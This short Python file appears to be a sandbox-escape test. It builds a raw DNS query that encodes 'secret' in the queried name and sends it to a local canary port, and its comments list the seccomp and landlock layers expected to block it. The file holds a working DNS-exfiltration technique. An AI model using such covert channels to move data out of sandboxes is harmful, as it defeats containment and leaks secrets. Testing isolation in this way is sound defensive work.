# sends a DNS query with data in the queried name
# docker: network seccomp
# local: network seccomp landlock
import socket
q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', CANARY_DNS))
